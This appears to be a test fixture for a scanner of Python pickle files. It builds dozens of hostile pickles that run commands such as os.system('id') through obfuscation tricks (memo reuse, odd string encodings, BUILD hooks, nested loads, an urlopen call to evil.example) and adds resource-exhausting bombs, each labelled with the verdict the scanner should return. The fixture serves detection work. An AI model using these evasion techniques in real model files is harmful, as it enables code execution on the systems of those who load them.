/** Pickles that run code, or try to hide that they do, with the verdict that they must get. */
import type { Judgement } from '../../src/evidence.ts'
import { bytes, le, type Piece } from './bytes.ts'
import {
  APPEND,
  BUILD,
  call,
  DUP,
  dict,
  EMPTY_DICT,
  EMPTY_LIST,
  EMPTY_TUPLE,
  evil,
  frame,
  global,
  inst,
  int,
  list,
  MARK,
  MEMOIZE,
  NEWOBJ,
  NEWOBJ_EX,
  NONE,
  OBJ,
  POP,
  POP_MARK,
  pickle,
  proto,
  REDUCE,
  raw,
  SETITEM,
  STACK_GLOBAL,
  STOP,
  shortText,
  stackGlobal,
  TUPLE,
  TUPLE1,
  TUPLE2,
  text,
  tuple,
} from './pickle.ts'

export interface Hostile {
  readonly name: string
  readonly data: Buffer
  readonly verdict: Judgement
  /** Part of the decoded call that must be told. */
  readonly call?: string
}

const hostile = (
  name: string,
  data: Buffer,
  callText?: string,
  verdict: Judgement = 'dangerous',
): Hostile => ({
  name,
  data,
  verdict,
  ...(callText !== undefined && { call: callText }),
})

const unknown = (name: string, data: Buffer): Hostile => ({ name, data, verdict: 'unknown' })

const ID = "os.system('id')"
const run: Piece = [tuple(text('id')), REDUCE]

/** All ways to push a text, each with the two names of a STACK_GLOBAL. */
export const pushes: readonly (readonly [string, (content: string) => Piece])[] = [
  ['STRING', content => `S'${content}'\n`],
  ['STRING in double quotes', content => `S"${content}"\n`],
  ['STRING escaped', content => `S'\\x${content.charCodeAt(0).toString(16)}${content.slice(1)}'\n`],
  ['BINSTRING', content => ['T', le(content.length, 4), content]],
  ['SHORT_BINSTRING', content => ['U', content.length, content]],
  ['UNICODE', content => `V${content}\n`],
  ['UNICODE escaped', content => `V\\u00${content.charCodeAt(0).toString(16)}${content.slice(1)}\n`],
  ['BINUNICODE', text],
  ['SHORT_BINUNICODE', shortText],
  ['BINUNICODE8', content => [0x8d, le(content.length, 8), content]],
]

const encodings = pushes.flatMap(([first, one]) =>
  pushes.map(([second, other]) =>
    hostile(`names as ${first} and ${second}`, pickle(4, stackGlobal(one('os'), other('system')), run), ID),
  ),
)

/** Ways to store a value in the memo at an index and to fetch it from there. */
export const puts: readonly (readonly [string, (index: number) => Piece])[] = [
  ['PUT', index => `p${index}\n`],
  ['BINPUT', index => ['q', index]],
  ['LONG_BINPUT', index => ['r', le(index, 4)]],
  ['MEMOIZE', () => MEMOIZE],
]
export const gets: readonly (readonly [string, (index: number) => Piece])[] = [
  ['GET', index => `g${index}\n`],
  ['BINGET', index => ['h', index]],
  ['LONG_BINGET', index => ['j', le(index, 4)]],
]
export const gaps: readonly (readonly [string, Piece])[] = [
  ['nothing', []],
  ['a popped text', [text('builtins'), POP]],
  ['a popped mark', [MARK, text('x'), POP_MARK]],
  ['a copy that is popped', [NONE, DUP, POP, POP]],
  ['an empty mark', [MARK, POP]],
]

const memos = puts.flatMap(([put, store]) =>
  gets.flatMap(([get, fetch]) =>
    gaps.map(([gap, noise]) =>
      hostile(
        `names through ${put} and ${get} with ${gap} between`,
        pickle(
          4,
          text('os'),
          store(0),
          POP,
          text('system'),
          store(1),
          POP,
          fetch(0),
          noise,
          fetch(1),
          STACK_GLOBAL,
          run,
        ),
        ID,
      ),
    ),
  ),
)

const memoTricks = [
  hostile(
    'a memo entry that is copied to another',
    pickle(4, text('os'), 'p0\n', 'g0\n', 'p1\n', text('system'), 'p2\n', 'g1\n', 'g2\n', STACK_GLOBAL, run),
    ID,
  ),
  hostile(
    'MEMOIZE that counts entries, not the stack',
    pickle(4, text('os'), MEMOIZE, POP, text('system'), MEMOIZE, POP, ['h', 0], ['h', 1], STACK_GLOBAL, run),
    ID,
  ),
  hostile(
    'a memo index with a sign and an underline',
    pickle(4, text('os'), 'p+1_0\n', POP, 'g10\n', text('system'), STACK_GLOBAL, run),
    ID,
  ),
  hostile(
    'a memo entry that is written over',
    pickle(4, text('safe'), 'p0\n', POP, text('os'), 'p0\n', POP, 'g0\n', text('system'), STACK_GLOBAL, run),
    ID,
  ),
]

const numbers = [
  'I0x10\n',
  'I0o17\n',
  'I0b1\n',
  'I1_0\n',
  'I 7\n',
  'I01\n',
  'L0x10L\n',
  'L1_0\n',
  'I1\0junk\n',
  'F1e5\n',
  'L0b1L\n',
]
const radix = numbers.map(number =>
  hostile(`the number ${JSON.stringify(number)} before the payload`, bytes(number, POP, evil, STOP), ID),
)

const calls = [
  hostile('protocol 0', bytes(global('os', 'system'), MARK, "S'id'\n", TUPLE, REDUCE, STOP), ID),
  hostile('INST', bytes(MARK, "S'id'\n", inst('os', 'system'), STOP), ID),
  hostile('OBJ', bytes(MARK, global('os', 'system'), "S'id'\n", OBJ, STOP), ID),
  hostile('OBJ, then POP', pickle(2, MARK, global('os', 'system'), text('id'), OBJ, POP, NONE), ID),
  hostile(
    'NEWOBJ',
    pickle(2, global('subprocess', 'Popen'), text('id'), TUPLE1, NEWOBJ),
    "subprocess.Popen('id')",
  ),
  hostile(
    'NEWOBJ_EX',
    pickle(4, global('subprocess', 'Popen'), text('id'), TUPLE1, EMPTY_DICT, NEWOBJ_EX),
    "subprocess.Popen('id')",
  ),
  hostile('REDUCE, result popped', pickle(2, evil, POP, NONE), ID),
  hostile(
    'arguments from the memo',
    pickle(2, tuple(text('id')), 'q', 0, POP, global('os', 'system'), 'h', 0, REDUCE),
    ID,
  ),
  hostile('within a list within a dict', pickle(2, dict(text('a'), list(list(evil)))), ID),
  hostile(
    'as an argument of a harmless call',
    pickle(2, global('collections', 'OrderedDict'), tuple(evil), REDUCE),
    ID,
  ),
  hostile(
    'two payloads',
    pickle(2, evil, POP, call('subprocess', 'check_output', text('ls'))),
    "subprocess.check_output('ls')",
  ),
  hostile('eval', pickle(2, call('builtins', 'eval', text('1+1'))), "eval('1+1')"),
  hostile(
    'getattr of an import',
    pickle(2, call('builtins', 'getattr', call('builtins', '__import__', text('os')), text('system')), run),
    "getattr(__import__('os'), 'system')('id')",
  ),
  hostile(
    'functools.partial',
    pickle(
      2,
      global('functools', 'partial'),
      tuple(global('os', 'system'), text('id')),
      REDUCE,
      EMPTY_TUPLE,
      REDUCE,
    ),
    "functools.partial(os.system, 'id')()",
  ),
  hostile(
    'operator.attrgetter',
    pickle(
      2,
      call('operator', 'attrgetter', text('system')),
      tuple(call('builtins', '__import__', text('os'))),
      REDUCE,
      run,
    ),
    "operator.attrgetter('system')(__import__('os'))('id')",
  ),
  hostile(
    'operator.methodcaller',
    pickle(2, call('operator', 'methodcaller', text('system'), text('id'))),
    "operator.methodcaller('system', 'id')",
  ),
  hostile(
    'map over a list',
    pickle(2, call('builtins', 'list', call('builtins', 'map', global('os', 'system'), list(text('id'))))),
    "list(map(os.system, ['id']))",
  ),
  hostile(
    'pkgutil.resolve_name',
    pickle(2, call('pkgutil', 'resolve_name', text('os:system')), run),
    "pkgutil.resolve_name('os:system')('id')",
  ),
  hostile(
    'getattr of an inner attribute',
    pickle(2, call('builtins', 'getattr', global('collections', 'OrderedDict'), text('__init__'))),
    '__init__',
  ),
  hostile('posix', pickle(2, call('posix', 'system', text('id'))), "posix.system('id')"),
  hostile('nt', pickle(2, call('nt', 'system', text('id'))), "nt.system('id')"),
  hostile('runpy', pickle(2, call('runpy', '_run_code', text('x'))), 'runpy._run_code'),
  hostile(
    'torch.hub',
    pickle(2, call('torch.hub', 'load', text('a/b'), text('c'))),
    "torch.hub.load('a/b', 'c')",
  ),
  hostile(
    'numpy.f2py',
    pickle(2, call('numpy.f2py.crackfortran', 'myeval', text('1'))),
    'numpy.f2py.crackfortran.myeval',
  ),
  hostile('import only', pickle(2, global('os', 'system'))),
  hostile('import only, protocol 0', bytes(global('subprocess', 'Popen'), STOP)),
]

const names = [
  hostile(
    'a module with a zero byte, which some versions cut',
    pickle(4, stackGlobal(text('os\0junk'), text('system')), run),
    ".system('id')",
  ),
  hostile(
    'a memo index with a zero byte',
    pickle(4, text('os'), 'p5\0junk\n', POP, 'g5\n', text('system'), STACK_GLOBAL, run),
    ID,
  ),
  hostile('a path with an inner attribute', pickle(4, stackGlobal(text('numpy.size'), text('__builtins__')))),
  hostile('a path to another module', pickle(4, stackGlobal(text('collections'), text('_sys.modules')))),
  hostile('a path through a function', pickle(4, stackGlobal(text('statistics'), text('mean.__globals__')))),
  hostile('a path through a module', pickle(4, stackGlobal(text('statistics'), text('sys.modules.get')))),
  hostile(
    'a computed name',
    pickle(4, stackGlobal(text('os'), call('builtins', 'str', text('system'))), run),
  ),
  hostile(
    'a joined name',
    pickle(4, stackGlobal(call('operator', 'concat', text('o'), text('s')), text('system')), run),
  ),
  hostile('__builtin__ of Python 2', pickle(2, call('__builtin__', 'eval', text('1'))), "eval('1')"),
  hostile('cPickle of Python 2', pickle(0, call('cPickle', 'loads', raw(pickle(2, evil)))), 'pickle.loads'),
  hostile(
    'urllib2 of Python 2',
    pickle(2, call('urllib2', 'urlopen', text('http://evil.example'))),
    "urllib.request.urlopen('http://evil.example')",
  ),
  hostile('reduce of Python 2', pickle(2, call('__builtin__', 'reduce', NONE, NONE)), 'functools.reduce'),
  hostile(
    'thread of Python 2',
    pickle(2, call('thread', 'start_new_thread', NONE, EMPTY_TUPLE)),
    '_thread.start_new_thread',
  ),
  hostile(
    'commands of Python 2',
    pickle(2, call('commands', 'getoutput', text('id'))),
    "subprocess.getoutput('id')",
  ),
  unknown('an unknown module', pickle(2, call('evil_package', 'run', text('id')))),
  unknown('an unknown module, import only', bytes('cantigravity\ngeohash\n', STOP)),
  unknown('letters that only look like a name', pickle(4, stackGlobal(text('ｏｓ'), text('system')), run)),
  unknown('an unknown class below a known module', pickle(2, call('torch', 'evil', text('id')))),
]

const building = [
  hostile(
    'BUILD on an imported function',
    pickle(2, global('collections', 'OrderedDict'), dict(text('a'), text('b')), BUILD),
  ),
  hostile(
    'BUILD on an imported class of torch',
    pickle(2, global('torch.nn.modules.linear', 'Linear'), dict(text('forward'), NONE), BUILD),
  ),
  hostile(
    'BUILD on an imported module function, then a call',
    pickle(4, stackGlobal(text('evil'), text('f')), dict(text('__code__'), NONE), BUILD, EMPTY_TUPLE, REDUCE),
  ),
  hostile('values put into an imported list', pickle(2, global('mod', 'path'), text('/tmp'), APPEND)),
  hostile(
    'a key put into an imported dictionary',
    pickle(2, global('mod', 'registry'), text('a'), NONE, SETITEM),
  ),
  hostile(
    'a hook that BUILD calls',
    pickle(
      2,
      global('argparse', 'Namespace'),
      EMPTY_TUPLE,
      NEWOBJ,
      dict(text('__setstate__'), global('os', 'system')),
      BUILD,
      text('id'),
      BUILD,
    ),
  ),
  unknown('a hook of an unknown name', pickle(2, dict(text('__setstate__'), global('a', 'b')))),
]

const registry = [
  hostile(
    'an extension that registers itself',
    pickle(2, call('copyreg', 'add_extension', text('os'), text('system'), int(1)), POP, [0x82, 1], run),
    ID,
  ),
  unknown('EXT1', pickle(2, [0x82, 1], run)),
  unknown('EXT2', pickle(2, [0x83, le(300, 2)])),
  unknown('EXT4', pickle(2, [0x84, le(70_000, 4)])),
]

const shapes = [
  unknown('OrderedDict called with a text', pickle(2, call('collections', 'OrderedDict', text('x')))),
  unknown(
    'a tensor without a storage',
    pickle(2, call('torch._utils', '_rebuild_tensor_v2', NONE, int(0), EMPTY_TUPLE, EMPTY_TUPLE)),
  ),
  unknown('encode with another codec', pickle(2, call('_codecs', 'encode', text('x'), text('rot13')))),
  unknown(
    'type with three arguments',
    pickle(2, call('builtins', 'type', text('X'), EMPTY_TUPLE, EMPTY_DICT)),
  ),
  unknown('a dtype that is called', pickle(2, call('torch', 'float32', int(1)))),
  unknown('a persistent id that is no storage', pickle(2, text('file:///etc/passwd'), 'Q')),
  unknown('PERSID', bytes('Pabc\n', STOP)),
  unknown('getattr of an unknown class', pickle(2, call('builtins', 'getattr', global('a', 'B'), text('c')))),
]

const inner = pickle(2, evil)
const nested = [
  hostile('pickle.loads', pickle(4, call('pickle', 'loads', raw(inner))), 'pickle.loads'),
  hostile(
    '_load_from_bytes of a pickle',
    pickle(4, call('torch.storage', '_load_from_bytes', raw(inner))),
    ID,
  ),
  hostile(
    '_load_from_bytes of Latin-1 text',
    pickle(
      2,
      call(
        'torch.storage',
        '_load_from_bytes',
        call('_codecs', 'encode', text(inner.toString('latin1')), text('latin1')),
      ),
    ),
    ID,
  ),
  unknown(
    '_load_from_bytes of noise',
    pickle(4, call('torch.storage', '_load_from_bytes', raw(Buffer.from('noise')))),
  ),
  hostile('an unknown reader of a pickle', pickle(4, call('evil', 'loads', raw(inner))), ID),
]

const several = [2, 3, 6].map(count =>
  hostile(
    `payload in pickle ${count}`,
    bytes(...Array.from({ length: count - 1 }, () => pickle(2, NONE)), pickle(2, evil)),
    ID,
  ),
)

const broken = [
  hostile('a payload before a byte that is no opcode', bytes(proto(2), evil, 0xff), ID),
  hostile('a payload before the end of the file', bytes(proto(2), evil), ID),
  hostile('a payload before a truncated opcode', bytes(proto(2), evil, 'X', le(100, 4), 'ab'), ID),
  hostile('a payload before an empty stack', bytes(proto(2), evil, POP, STOP), ID),
  hostile('a payload before a missing memo entry', bytes(proto(2), evil, 'h', 7), ID),
  hostile('a payload before an unknown protocol', bytes(proto(2), evil, proto(9)), ID),
  hostile('protocol 0 before a break', bytes(evil, '\xff\xff'), ID),
]

const frames = [
  hostile(
    'an opcode that crosses its frame',
    bytes(proto(4), frame(2), raw(Buffer.alloc(131_000)), POP, NONE, STOP),
  ),
  hostile('a payload within frames', bytes(proto(4), frame(bytes(evil, STOP).length), evil, STOP), ID),
  unknown('a frame longer than the file', bytes(proto(4), frame(1000), NONE, STOP)),
  unknown('a frame within a frame', bytes(proto(4), frame(20), frame(5), NONE, NONE, NONE, STOP)),
  hostile('protocols twice', bytes(proto(4), proto(2), evil, proto(4), STOP), ID),
]

const nestedMarks = bytes(proto(2), '('.repeat(100_000), STOP)
const laughs = bytes(
  proto(2),
  EMPTY_LIST,
  Array.from({ length: 60 }, () => [DUP, TUPLE2]),
  STOP,
)

/** Small files that cost a reader much. */
export const bombs: readonly Hostile[] = [
  unknown('a length of 2^62', bytes(proto(4), 0x8e, le(2 ** 62, 8), 'x')),
  unknown('a frame of 2^62', bytes(proto(4), frame(2 ** 62), NONE, STOP)),
  unknown('100,000 marks', nestedMarks),
  unknown('a memo with a gap of 2^31', bytes(proto(2), NONE, 'r', le(2 ** 31 - 1, 4), STOP)),
  unknown('200,000 pickles', bytes('N.'.repeat(200_000))),
  unknown('2^60 values in 120 bytes', laughs),
  unknown('a number of 100,000 digits', bytes('I', '9'.repeat(100_000), '\n', 'x')),
  unknown('a line without an end', bytes('S', 'x'.repeat(3_000_000))),
]

/** Decoys: they look like an attack and are none. */
export const decoys: readonly { readonly name: string; readonly data: Buffer }[] = [
  { name: 'names as plain texts', data: pickle(4, list(text('os'), text('system'), text('eval'))) },
  {
    name: 'names that are popped',
    data: pickle(
      4,
      text('os'),
      text('system'),
      POP,
      POP,
      stackGlobal(text('collections'), text('OrderedDict')),
      EMPTY_TUPLE,
      REDUCE,
    ),
  },
  { name: 'opcodes within bytes', data: pickle(4, raw(pickle(2, evil))) },
]

export const hostilePickles: readonly Hostile[] = [
  ...encodings,
  ...memos,
  ...memoTricks,
  ...radix,
  ...calls,
  ...names,
  ...building,
  ...registry,
  ...shapes,
  ...nested,
  ...several,
  ...broken,
  ...frames,
  hostile('bytes, then a pickle, behind a safe one', bytes(pickle(2, NONE), pickle(2, evil)), ID),
]
